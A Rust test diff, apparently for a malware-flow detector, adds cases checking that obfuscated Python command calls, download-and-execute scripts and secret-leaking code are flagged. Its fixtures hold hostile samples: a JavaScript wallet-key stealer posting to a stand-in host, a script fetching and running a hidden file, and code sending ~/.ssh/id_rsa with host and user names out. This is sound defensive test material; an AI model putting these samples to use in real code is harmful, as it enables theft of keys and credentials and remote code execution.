@@ -547,3 +547,61 @@ fn long_texts_and_executed_texts_cannot_hang() {
         assert!(started.events.len() < 8);
     }
 }
+
+#[test]
+fn what_the_standard_library_holds_is_known() {
+    let cases = [
+        (
+            "import string, os\nl = string.ascii_letters\nr = l[::-1]\nos.system(''.join(r[l.index(c)] if c in l else c for c in 'VXSL SR'))",
+            "echo hi",
+        ),
+        ("from string import ascii_lowercase as a\nimport os\nos.system(a[4] + a[2])", "ec"),
+        ("import sys, os\nos.system('two' if sys.version_info[0] == 2 else 'three')", "three"),
+        ("import os\nos.system(str().join(['ec', 'ho']))", "echo"),
+        ("f = globals()['__builtins__'].get('__import__')\nf('os').system('hi')", "hi"),
+    ];
+    for (code, expected) in cases {
+        let found = command(Language::Python, code);
+        // `in` over letters of both cases turns lower into upper.
+        assert_eq!(found.to_ascii_lowercase(), expected, "{code}");
+    }
+}
+
+#[test]
+fn keys_of_wallets_that_go_anywhere_else_are_told_from_keys_of_services() {
+    let wallet = "import bs58 from 'bs58'; class Loader { static add(p) { const b = bs58.encode(p); \
+                  fetch('https://rpc.invalid/queue', { method: 'POST', headers: { 'x-session-id': b.substring(32) } }) } } \
+                  export class Keypair { static from(secretKey) { Loader.add(secretKey); return 1 } }";
+    let outcome = outcome(Language::JavaScript, wallet);
+    let flows = flows::judge(&outcome, false);
+    assert!(flows.iter().any(|f| f.rule.id == "flow-key-sent" && f.certain), "{:?}", outcome.events);
+    let service = "export function client(secretKey) { return fetch('https://api.pay.invalid/v1', \
+                   { method: 'POST', headers: { Authorization: 'Bearer ' + secretKey } }) }";
+    assert!(!rules(Language::JavaScript, service).contains(&"flow-key-sent"));
+}
+
+#[test]
+fn programs_from_bare_numbers_and_hidden_files_have_no_honest_reading() {
+    let certain = |code: &str| {
+        let outcome = python(code);
+        flows::judge(&outcome, false).iter().any(|f| f.rule.id == "flow-download-run" && f.certain)
+    };
+    let script = |host: &str, path: &str| {
+        format!(
+            "import requests, subprocess, sys\ndef f():\n    open('{path}', 'w').write(requests.get('http://{host}/a').text)\n    \
+             subprocess.Popen([sys.executable, '{path}'])"
+        )
+    };
+    assert!(certain(&script("203.0.113.9:81", "/var/x/helper.py")));
+    assert!(certain(&script("h.invalid", "/home/u/.cache.py")));
+    assert!(!certain(&script("h.invalid", "/home/u/.cache/helper.py")));
+    assert!(!certain(&script("10.0.0.9", "/var/x/helper.py")));
+}
+
+#[test]
+fn what_goes_with_credentials_does_not_make_them_weigh_less() {
+    let code = "import requests, socket, getpass\ndef f(where):\n    k = open('/home/u/.ssh/id_rsa').read()\n    \
+                requests.post('https://h.invalid/x', data={'k': k, 'h': socket.gethostname(), 'u': getpass.getuser()})";
+    let found = rules(Language::Python, code);
+    assert!(found.contains(&"flow-credentials-sent") && found.contains(&"flow-identity-sent"), "{found:?}");
+}
